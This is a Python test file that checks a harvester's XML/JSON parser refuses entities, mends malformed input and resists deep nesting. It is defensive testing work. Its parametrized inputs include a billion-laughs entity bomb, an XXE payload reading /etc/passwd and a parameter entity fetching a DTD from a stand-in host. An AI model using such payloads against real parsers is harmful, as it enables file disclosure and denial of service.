"""XML and JSON from outside: what harms is refused aloud, what is broken is mended and noted or refused."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harvesters.protocols.answer import Received
from harvesters.protocols.parsing import child_text, mend_xml, open_json, open_xml
from models.errors import PageUnreadable

BOMB = """<?xml version="1.0"?><!-- nothing --><!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><r><t>&lol2;</t></r>"""


def received(body: str | bytes, content_type: str | None = None) -> Received:
    raw = body.encode() if isinstance(body, str) else body
    return Received(url="https://site.test/a", body=raw, content_type=content_type)


@pytest.mark.parametrize(
    "body",
    [
        BOMB,
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]><r/>',
        BOMB.encode("utf-16"),
        '<!doctype r [<!entity x "y">]><r a="&x;"/>',
    ],
)
def test_entities_are_refused_and_not_expanded(body: str | bytes) -> None:
    with pytest.raises(PageUnreadable, match="defines XML entities"):
        open_xml(received(body), "a feed")


def test_a_document_type_that_only_names_one_is_no_harm_and_is_not_fetched() -> None:
    body = '<!DOCTYPE rss PUBLIC "-//N//DTD RSS 0.91//EN" "http://site.test/rss-0.91.dtd"><rss><t>x</t></rss>'
    assert child_text(open_xml(received(body), "a feed").root, "t") == "x"


def test_an_undefined_entity_reads_no_file() -> None:
    assert child_text(open_xml(received("<r><t>a&passwd;b</t></r>"), "a feed").root, "t") == "a&passwd;b"


def test_characters_that_xml_forbids_are_taken_out_and_counted() -> None:
    answer = open_xml(received("<r><t>one\x0btwo\x02 &#x1F;three &#0;&#xFFFF;</t></r>"), "a feed")
    assert child_text(answer.root, "t") == "one two three"
    assert any(note.startswith("2 characters that XML forbids") for note in answer.notes)
    assert any(note.startswith("3 references") for note in answer.notes)


def test_html_entities_and_stray_ampersands_are_mended_outside_of_cdata_only() -> None:
    body = "<r><t>R&D &eacute;t&eacute; &lt;b&gt; &LT; AT&amp;T</t><u><![CDATA[R&D &eacute; <b>]]></u>&</r>"
    answer = open_xml(received(body), "a feed")
    assert child_text(answer.root, "t") == "R&D été <b> < AT&T"
    assert child_text(answer.root, "u") == "R&D &eacute; <b>"


def test_an_undeclared_prefix_loses_nothing_and_is_noted() -> None:
    answer = open_xml(received("<r><dc:title>Guide</dc:title></r>"), "a feed")
    assert child_text(answer.root, "title") == "Guide"
    assert "dc" in answer.notes[0]


@pytest.mark.parametrize(
    "body", ["<r><t>cut o", "<r><t>a < b</t></r>", "<r></s>", "<?xml version='1.0'?>", "words"]
)
def test_what_would_lose_something_is_refused_with_its_line(body: str) -> None:
    with pytest.raises(PageUnreadable, match="not well-formed XML"):
        open_xml(received(body), "a feed")


def test_an_html_page_in_place_of_an_answer_is_named_with_its_title() -> None:
    body = "<!-- x --><!DOCTYPE html><html><head><title> Maintenance\n window</title></head></html>"
    for opener in (open_xml, open_json):
        with pytest.raises(
            PageUnreadable, match="is not a feed but an HTML page titled 'Maintenance window'"
        ):
            opener(received(body), "a feed")


def test_an_empty_answer_is_named() -> None:
    with pytest.raises(PageUnreadable, match="it is empty"):
        open_xml(received(b"  \n"), "a feed")


def test_nesting_beyond_measure_is_refused_in_bounded_time() -> None:
    started = time.process_time()
    with pytest.raises(PageUnreadable):
        open_xml(received("<a>" * 100_000), "a feed")
    with pytest.raises(PageUnreadable):
        open_json(received("[" * 100_000), "an answer")
    with pytest.raises(PageUnreadable):
        open_json(received('{"a":' * 100_000 + '"\\ud800"' + "}" * 100_000), "an answer")
    with pytest.raises(PageUnreadable, match="nests more than 64 deep"):
        open_json(received("[" * 900 + "]" * 900), "an answer")
    assert time.process_time() - started < 2.0


@pytest.mark.parametrize(
    "unit", ["<?a?>", "<!-- -->", "<!DOCTYPE a>", "<![CDATA[", "<!DOCTYPE a [ ", "&#x", "]]>"]
)
def test_hostile_prologs_and_sections_are_read_in_bounded_time(unit: str) -> None:
    started = time.process_time()
    with pytest.raises(PageUnreadable):
        open_xml(received(unit * 20_000), "a feed")
    assert time.process_time() - started < 2.0


def test_half_a_character_in_json_does_not_lose_the_answer() -> None:
    assert open_json(received('{"a": "x\\ud83d"}'), "an answer") == {"a": "x\ud83d"}


@pytest.mark.parametrize("body", ['{"a": 1', "<xml/>", "nothing"])
def test_what_is_no_json_is_refused(body: str) -> None:
    with pytest.raises(PageUnreadable, match="is not an answer"):
        open_json(received(body), "an answer")


@given(st.text(max_size=60))
def test_mending_twice_mends_nothing_more(text: str) -> None:
    once, _ = mend_xml(text)
    assert mend_xml(once) == (once, ())
